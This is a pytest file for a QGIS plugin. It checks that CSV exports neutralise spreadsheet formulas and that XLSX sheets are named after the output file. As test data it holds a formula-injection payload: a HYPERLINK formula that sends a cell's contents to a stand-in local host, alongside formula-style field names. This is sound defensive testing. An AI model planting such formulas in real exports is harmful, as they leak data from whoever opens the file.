# SPDX-License-Identifier: GPL-3.0-or-later
"""CSV and XLSX files the algorithms write through a Processing sink (attack 16b, findings 2 and 6).

A CSV written by countbyadmin kept an admin name ``=HYPERLINK(...)`` from the boundaries as a formula a
spreadsheet runs (the toolkit's own CSV writer neutralises it, ``safe_files.neutralise_cell``): every CSV
written through a sink now has its text cells and header neutralised the same way, numbers as they are.
An XLSX written through a sink had a sheet without a name (the temporary file ``.counts.<tag>.part.xlsx``
named it): the sheet is now named after the output file.
"""

from __future__ import annotations

import csv
import re
import shutil
import zipfile
from pathlib import Path

import pytest

from tests.field_data import SAMPLE_ADMIN, RecordingFeedback, import_sample, ogr_execute

LINK = '=HYPERLINK("http://127.0.0.1:9/?d="&B2,"voir")'


@pytest.fixture(scope="module")
def survey(tmp_path_factory, qgis_app):
    return import_sample(tmp_path_factory.mktemp("sink_files") / "household.gpkg")


@pytest.fixture()
def hostile_admin(tmp_path):
    """The sample's admin2 areas, one named by a formula, with a column whose name is one and a number column."""
    from osgeo import ogr

    admin = tmp_path / "admin.gpkg"
    shutil.copy(SAMPLE_ADMIN, admin)
    dataset = ogr.Open(str(admin), 1)
    layer = dataset.GetLayerByName("admin2")
    layer.CreateField(ogr.FieldDefn("@SUM(1+1)", ogr.OFTString))
    layer.CreateField(ogr.FieldDefn("change", ogr.OFTReal))
    layer = dataset = None
    quoted = LINK.replace("'", "''")
    ogr_execute(
        admin,
        f"UPDATE admin2 SET adm2_name = '{quoted}', \"@SUM(1+1)\" = '+33 1 2', change = -12.5 "
        "WHERE adm2_pcode = (SELECT min(adm2_pcode) FROM admin2)",
    )
    return admin


def _count(survey: Path, admin: Path, output: Path) -> dict:
    import processing

    return processing.run(
        "cartong:countbyadmin",
        {
            "POINTS": f"{survey}|layername=survey",
            "ADMIN": f"{admin}|layername=admin2",
            "ADMIN_CODE": "adm2_pcode",
            "ADMIN_NAME": "adm2_name",
            "OUTPUT": str(output),
        },
        feedback=RecordingFeedback(),
    )


def _rows(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8-sig") as handle:
        return list(csv.DictReader(handle))


def test_counts_written_as_csv_cannot_run_a_formula(cartong_provider, survey, hostile_admin, tmp_path):
    output = tmp_path / "counts.csv"
    _count(survey, hostile_admin, output)
    rows = _rows(output)
    assert "'@SUM(1+1)" in rows[0] and "@SUM(1+1)" not in rows[0]  # the header too
    named = [row for row in rows if "HYPERLINK" in row["adm2_name"]]
    assert [row["adm2_name"] for row in named] == ["'" + LINK]
    assert named[0]["'@SUM(1+1)"] == "'+33 1 2"
    assert named[0]["change"] == "-12.5"  # a number stays a number
    assert all(re.fullmatch(r"\d+", row["submissions"]) for row in rows)
    assert not any(value.startswith(("=", "@", "+")) for row in rows for value in row.values() if value)


def test_personal_data_found_written_as_csv_cannot_run_a_formula(cartong_provider, tmp_path):
    """A column of phone numbers named by a formula is listed by its name, neutralised."""
    import processing
    from osgeo import ogr

    survey = tmp_path / "phones.gpkg"
    dataset = ogr.GetDriverByName("GPKG").CreateDataSource(str(survey))
    layer = dataset.CreateLayer("survey", geom_type=ogr.wkbNone)
    layer.CreateField(ogr.FieldDefn("=phone", ogr.OFTString))
    for number in range(20):
        feature = ogr.Feature(layer.GetLayerDefn())
        feature.SetField("=phone", f"+236 75 {number:02d} 12 06")
        layer.CreateFeature(feature)
    layer = dataset = None
    output = tmp_path / "found.csv"
    processing.run(
        "cartong:detectpersonaldata",
        {"INPUT": f"{survey}|layername=survey", "OUTPUT": str(output)},
        feedback=RecordingFeedback(),
    )
    assert [row["column"] for row in _rows(output)] == ["'=phone"]


def _sheets(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as workbook:
        return re.findall(r'<sheet [^>]*name="([^"]*)"', workbook.read("xl/workbook.xml").decode("utf-8"))


@pytest.mark.parametrize(
    ("name", "sheet"),
    [
        ("counts.xlsx", "counts"),
        ("counts 2026.03.xlsx", "counts 2026.03"),
        ("[draft] counts by admin2 area, north-west region.xlsx", "_draft_ counts by admin2 area, "),
    ],
)
def test_counts_written_as_a_workbook_have_a_sheet_named_after_the_file(
    cartong_provider, survey, tmp_path, name, sheet
):
    output = tmp_path / name
    result = _count(survey, SAMPLE_ADMIN, output)
    assert result["OUTPUT"] == str(output)
    assert _sheets(output) == [sheet]
    assert len(sheet) <= 31
